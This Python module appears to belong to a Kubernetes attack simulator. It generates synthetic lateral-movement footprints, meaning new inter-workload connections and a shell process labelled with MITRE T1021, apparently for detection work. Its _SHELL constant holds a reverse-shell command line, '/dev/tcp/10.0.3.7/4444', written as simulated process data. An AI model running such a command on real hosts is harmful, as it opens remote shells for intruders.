"""From a workload to the next: a connection that was never there, a shell at its end, and on to a third."""

from __future__ import annotations

from kubestray.simulate import edges
from kubestray.simulate.attacks.scene import Kind, Scene
from kubestray.simulate.catalog import Program
from kubestray.simulate.cluster import Pod
from kubestray.simulate.edges import Edge
from kubestray.simulate.episode import transfer
from kubestray.simulate.labels import Attack
from kubestray.simulate.noise import key
from kubestray.simulate.stage import Footprint, Intruder, conversation

_SHELL = Program("dash", "/bin/dash", "-c exec 5<>/dev/tcp/10.0.3.7/4444", "1000", 0.001, 2.1, (20.0, 0.0), 1)
_NEXT = "payments"
_THEN = ("kafka", "redis", "auth")
_LATER = 120


def plan(scene: Scene) -> Footprint:
    """Return the footprint; the size is in connections from a workload to another that never spoke before."""
    other = _pod(scene)
    ends = [(scene.at(), scene.near(_NEXT))]
    second = edges.inside(other.owner, other.machine.zone, _SHELL.name)
    ends += [(second, scene.near(name)) for name in _THEN[: max(round(scene.size) - 1, 0)]]
    found: list[Edge] = []
    for number, pair in enumerate(ends):
        own = key(scene.own, "hop", number)
        begin = scene.begin + (_LATER if number else 0)
        said = transfer(own, begin, scene.last, 2_500.0, pauses=0.4)
        found += conversation(own, pair, said, said.scaled(3.0), 1.5)
    step = scene.step(
        LATERAL_MOVEMENT.techniques,
        float(len(ends)),
        "{edges}",
        scene.pod.owner.program.name,
        also=scene.stage.entities(other),
    )
    shell = Intruder(key(scene.own, "shell"), other, _SHELL, scene.begin + 60, scene.last)
    return Footprint(attacks=(Attack(scene.name, (step,)),), edges=tuple(found), intruders=(shell,))


def _pod(scene: Scene) -> Pod:
    return scene.stage.target((_NEXT,), scene.begin, min(scene.last, scene.stage.end))


LATERAL_MOVEMENT = Kind(
    "A workload connects to another, and a shell there to a third.",
    ("T1021",), "new connections between workloads", 1.0, (2.0, 3.0), plan,
)  # fmt: skip
